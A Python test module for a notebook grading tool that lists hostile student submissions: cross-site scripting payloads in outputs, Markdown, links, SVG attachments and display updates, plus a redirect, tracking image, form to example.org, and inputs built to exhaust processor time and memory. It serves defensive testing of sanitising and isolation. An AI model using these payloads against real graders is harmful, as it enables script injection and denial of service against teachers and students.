"""What a browser would run or fetch when the feedback or formgrader shows a submission, and what is endless to show."""

from collections.abc import Callable
from functools import partial

from nbformat import NotebookNode
from nbformat.v4 import new_markdown_cell

from tests.hostile.attack import MARK, Attack
from tests.hostile.goals import ended, grader_memory, rendered

_ON_ERROR = f"<img src=x onerror={MARK}>"
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=alert('{MARK}')><script>alert('{MARK}')</script></svg>"


def _shows(kind: str, content: str) -> str:
    return f"from IPython.display import display\ndisplay({{{kind!r}: {content!r}}}, raw=True)"


def _markdown(text: str) -> Callable[[NotebookNode], None]:
    return lambda notebook: notebook.cells.insert(0, new_markdown_cell(text))


def _many(text: str, number: int) -> Callable[[NotebookNode], None]:
    return lambda notebook: notebook.cells.extend(new_markdown_cell(text) for _ in range(number))


def _attached(notebook: NotebookNode) -> None:
    cell = new_markdown_cell("![picture](attachment:a.svg)\n\n" + f"<img src='attachment:a.svg' onload={MARK}>")
    cell["attachments"] = {"a.svg": {"image/svg+xml": _SVG}}
    notebook.cells.insert(0, cell)


# Each takes over five minutes of a processor, and its class is given three by the clock.
_MATHEMATICS = "\\\\[" * 6_600
_BLANKS = "```ipython\n" + " \n" * 9_000 + "```"
_GROWING = """
from IPython.display import HTML, display
display(HTML("".join(f"<b title={number}><p>" for number in range(4_000))))
"""

_attack = partial(Attack, group="html", goal=rendered, guards=("sanitise",))
_endless = partial(_attack, goal=ended, guards=("apart",), alone=True)
ATTACKS = [
    _attack(
        "output_script", about="A script as output.", code=_shows("text/html", f"<script>alert('{MARK}')</script>")
    ),
    _attack("output_handler", about="A picture that fails, with a handler.", code=_shows("text/html", _ON_ERROR)),
    _attack(
        "output_javascript", about="JavaScript as output.", code=_shows("application/javascript", f"alert('{MARK}')")
    ),
    _attack(
        "output_frame",
        about="A frame whose page is a script.",
        code=_shows("text/html", f"<iframe srcdoc=\"<script>alert('{MARK}')</script>\"></iframe>"),
    ),
    _attack(
        "output_link",
        about="A link that is a script.",
        code=_shows("text/html", f"<a href=\"javascript:alert('{MARK}')\">full points</a>"),
    ),
    _attack(
        "output_form",
        about="A form that sends what is typed.",
        code=_shows("text/html", f"<form action='https://example.org/{MARK}'><input name=score></form>"),
    ),
    _attack(
        "output_style",
        about="A style that hides the card and shows another.",
        code=_shows("text/html", f"<style>.card::after {{ content: '{MARK}' }}</style>"),
    ),
    _attack(
        "output_refresh",
        about="The page leads elsewhere.",
        code=_shows("text/html", f"<meta http-equiv=refresh content='0;url=https://example.org/{MARK}'>"),
    ),
    _attack(
        "output_tracker",
        about="A picture from elsewhere tells who reads.",
        code=_shows("text/html", f"<img src='https://example.org/{MARK}.png'>"),
    ),
    _attack("output_markdown", about="A script in Markdown output.", code=_shows("text/markdown", _ON_ERROR)),
    _attack(
        "markdown_script", about="A script in a text cell.", notebook=_markdown(f"<script>alert('{MARK}')</script>")
    ),
    _attack("markdown_handler", about="A handler in a text cell.", notebook=_markdown(_ON_ERROR)),
    _attack("markdown_heading", about="A handler in the title.", notebook=_markdown(f"# {_ON_ERROR}")),
    _attack("markdown_link", about="A link that is a script.", notebook=_markdown(f"[x](javascript:alert('{MARK}'))")),
    _attack("attachment", about="A drawing with a script, attached.", notebook=_attached),
    _attack(
        "display_update",
        about="A later cell changes what an earlier one showed into a script.",
        code="from IPython.display import HTML, display\nshown = display(HTML('nothing'), display_id='one')\n"
        f"shown.update(HTML(\"<script>alert('{MARK}')</script>\"))",
    ),
    _endless(
        "markdown_endless",
        about="Brackets of formulas that are never closed, 6,600 in each of 400 cells.",
        notebook=_many(_MATHEMATICS, 400),
    ),
    _endless("lexer_endless", about="Blank lines that a lexer tries again and again.", notebook=_many(_BLANKS, 5)),
    _endless(
        "output_growing",
        about="Tags that are written again in each paragraph: of 70 kB two gigabytes.",
        code=_GROWING,
        goal=grader_memory(1400),
        apart=True,
    ),
]
